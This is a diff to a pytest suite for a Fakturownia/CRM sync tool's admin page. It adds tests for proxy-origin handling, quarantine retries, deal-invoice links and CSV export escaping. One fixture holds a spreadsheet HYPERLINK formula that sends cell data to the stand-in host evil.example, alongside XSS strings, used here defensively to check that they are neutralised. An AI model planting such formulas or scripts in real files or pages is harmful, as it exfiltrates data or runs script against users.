@@ -15,12 +15,12 @@ from urllib.parse import urljoin
 
 import pytest
 import requests
-from sqlalchemy import update
+from sqlalchemy import select, update
 
 from fakturownia_sync.config import SyncConfig
 from fakturownia_sync.integration_check import build_report, not_connected
 from fakturownia_sync.state import StateStore
-from fakturownia_sync.state.schema import client_review
+from fakturownia_sync.state.schema import client_review, invoice_deals
 from tests.airflow_harness import AIRFLOW, ROOT
 from tests.ui_harness import ADMIN, PAGE_PATH, VIEWER, UiServer, decisions_by, ui_server
 
@@ -228,6 +228,15 @@ def test_link_is_refused_for_records_the_entry_does_not_offer(server: UiServer) 
         timeout=30,
     )
     assert cross_site.status_code == 403
+    # behind a proxy that rewrites Host, the browser's own post still names it same-origin: not refused
+    proxied = server.session(ADMIN).post(
+        server.page_url + "review-decision",
+        data={**ignore, "evidence": "stale"},
+        headers={"Origin": "https://airflow.example.pl", "Sec-Fetch-Site": "same-origin"},
+        allow_redirects=False,
+        timeout=30,
+    )
+    assert (proxied.status_code, proxied.headers.get("location")) == (303, "./?done=review_changed#review")
     store = server.store()
     try:
         assert len(store.review_decision_audit()) == before
@@ -323,6 +332,43 @@ def test_forged_and_junk_decisions_store_nothing(server: UiServer) -> None:
     finally:
         store.close()
     assert admin.get(server.page_url, timeout=60).status_code == 200
+
+
+def test_a_retry_on_an_entry_resolved_since_the_page_loaded_changes_nothing(server: UiServer) -> None:
+    store = server.store()
+    try:
+        entry = store.open_quarantine_page()[1]
+        store.resolve_quarantine(entry["stream"], entry["record_id"])  # a run processed it meanwhile
+    finally:
+        store.close()
+    try:
+        response = server.session(ADMIN).post(
+            server.page_url + "quarantine-retry",
+            data={"stream": entry["stream"], "record_id": entry["record_id"]},
+            allow_redirects=False,
+            timeout=30,
+        )
+        assert (response.status_code, response.headers["location"]) == (303, "./?done=retry_gone#quarantine")
+        unknown = server.session(ADMIN).post(
+            server.page_url + "quarantine-retry",
+            data={"stream": "no_such_stream", "record_id": entry["record_id"]},
+            allow_redirects=False,
+            timeout=30,
+        )
+        assert unknown.status_code == 400
+        store = server.store()
+        try:
+            assert entry["id"] not in {e["id"] for e in store.open_quarantine_page()}
+        finally:
+            store.close()
+    finally:
+        store = server.store()
+        try:
+            store.quarantine(
+                entry["stream"], entry["record_id"], entry["reason"], entry["message"], entry["payload"], None
+            )
+        finally:
+            store.close()
 
 
 def test_quarantine_retry_is_asked_for_in_the_name_of_the_user(server: UiServer) -> None:
@@ -436,10 +482,13 @@ def test_overview_counts_department_use_on_both_databases(store: StateStore) -> 
     store.link_clients(3, 103, "email", {"fakturownia": {"department_id": None}, "crm": {"department_id": None}})
     store.link_clients(2, 102, "created", None)
     assert store.department_usage() == {"fakturownia": {11: 2, None: 1}, "crm": {2: 1, None: 1}}
+    assert store.link_deal(7001, 8001, None, None) and store.link_deal(7002, 8002, "h", None)
+    assert store.invoices_of_deals([8001, 8002, 8003]) == {8001: 7001, 8002: 7002}
     assert store.crm_clients_linked_to([1, 2, 9]) == {1: 101, 2: 102}
     assert store.fakturownia_clients_linked_to([103, 104]) == {103: 3}
 
 
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
 HOSTILE = ("<script>alert(1)</script>", '"><img src=x onerror=alert(2)>', "'><svg onload=alert(3)>")
 
 
@@ -465,7 +514,7 @@ def test_hostile_names_messages_and_payloads_are_shown_as_text(server: UiServer)
                     message=f"looks like {svg}",
                     fakturownia_client_id=None,
                     crm_client_id=990002,
-                    crm_record={"id": 990002, "name": script, "city": img, "email": svg},
+                    crm_record={"id": 990002, "name": script, "city": img, "email": svg, "tax_no": FORMULA},
                     suggestions=[{"side": "fakturownia", "id": 990003, "name": img, "evidence": script}],
                     first_seen_at=datetime.now(UTC),
                     last_seen_at=datetime.now(UTC),
@@ -479,11 +528,44 @@ def test_hostile_names_messages_and_payloads_are_shown_as_text(server: UiServer)
         assert "<img" not in html and "<svg" not in html and "<script" not in html
         review = page_form(server, ADMIN, "crm:990002", "ignore")
         assert review["subject"] == "crm:990002"
+        download = server.session(ADMIN).get(server.page_url + "review.csv", timeout=60).content.decode("utf-8")
+        [row] = [r for r in csv.DictReader(io.StringIO(download)) if r["subject"] == "crm:990002"]
+        assert row["crm_name"] == script and row["crm_tax_no"] == "'" + FORMULA  # a spreadsheet shows it as text
     finally:
         with store.engine.begin() as conn:
             conn.execute(client_review.delete().where(client_review.c.subject == "crm:990002"))
         store.resolve_quarantine("invoices_to_deals", "990001")
         store.close()
+
+
+def test_quarantined_deals_link_to_the_deal_and_its_invoice(server: UiServer) -> None:
+    """A deal → invoice entry opens the deal in the CRM and, where the deal has one, its invoice in Fakturownia
+    (read for the whole page at once)."""
+    store = server.store()
+    try:
+        with store.engine.connect() as conn:
+            pairs = conn.execute(select(invoice_deals.c.invoice_id, invoice_deals.c.deal_id).limit(40)).all()
+        assert len(pairs) >= 20, "the seed must link some invoices to deals"
+        for _invoice_id, deal_id in pairs:
+            store.quarantine(
+                "deals_to_invoices", deal_id, "invalid_record", "deal without a buyer", {"id": deal_id}, None
+            )
+    finally:
+        store.close()
+    try:
+        html = server.session(ADMIN).get(server.page_url, timeout=60).text
+        for invoice_id, deal_id in pairs:
+            row = html.split(f'data-stream="deals_to_invoices" data-record="{deal_id}"', 1)[1].split("</tr>", 1)[0]
+            assert f"{server.sandbox.sugester_url}/app/deals/{deal_id}" in row
+            assert f'{server.sandbox.fakturownia_url}/invoices/{invoice_id}" target="_blank"' in row
+            assert "its invoice in Fakturownia" in row
+    finally:
+        store = server.store()
+        try:
+            for _invoice_id, deal_id in pairs:
+                store.resolve_quarantine("deals_to_invoices", deal_id)
+        finally:
+            store.close()
 
 
 def _move_state_db(server: UiServer, aside: Path) -> None:
